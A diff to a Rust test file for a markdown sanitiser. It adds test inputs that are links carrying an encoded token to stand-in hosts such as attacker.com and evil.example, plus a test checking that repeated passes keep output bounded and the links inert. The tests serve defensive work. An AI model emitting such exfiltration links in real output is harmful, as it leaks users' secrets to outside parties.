@@ -556,6 +556,10 @@ fn schemeless_links_markdown_it_would_make_are_made_inert() {
         "| a |\n|---|\n| \\|attacker.com/c?token=c2VjcmV0LXRva2Vu |",
         "x http://1.2.3.999/a\\)attacker.com/c?token=c2VjcmV0LXRva2Vu",
         "x http://1.2.3.999/a\\)//attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        // Host letters linkify-it takes that are ASCII symbols.
+        "x //=.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x //~.attacker.com/c?token=c2VjcmV0LXRva2Vu",
+        "x //$.attacker.com/c?token=c2VjcmV0LXRva2Vu",
     ] {
         let (out, codes, _) = run(text);
         assert!(
@@ -969,4 +973,30 @@ fn long_tokens_of_names_stay_as_written() {
     ));
     assert!(codes.contains(&Code::LinkExfiltration), "{codes:?}");
     assert!(out.contains("这是一个很长的段落"), "{}", &out[..300]);
+}
+
+/// Passes that re-read what the last one wrote (a removed URL whose query holds more
+/// data-carrying `//localhost` URLs: its tail is read again from the source, escapes
+/// included, and escaped again) grew a text ~33 times within the six passes (hostile
+/// review: 1 MB became 65 MB, using 10.7 GB). Growth past 8 times the input sends the
+/// input itself to the escaped fallback: the output stays bounded, inert and stable.
+#[test]
+fn passes_that_compound_growth_stop_at_a_bound() {
+    let chunk = format!(
+        "https://evil.example/?token=c2VjcmV0LXRva2Vu{}{} ",
+        "&u=//localhost/?token=c2VjcmV0LXRva2Vu".repeat(5),
+        "&".repeat(100)
+    );
+    let text = chunk.repeat(20_000 / chunk.len());
+    let (once, codes, _) = run(&text);
+    assert!(
+        once.len() <= 8 * text.len() + 16 * 1024,
+        "{} bytes became {}",
+        text.len(),
+        once.len()
+    );
+    assert!(codes.contains(&Code::LinkExfiltration), "{codes:?}");
+    assert!(!once.contains("https://") && !once.contains("//localhost"));
+    let (twice, _, unchanged) = run(&once);
+    assert!(unchanged && twice == once);
 }
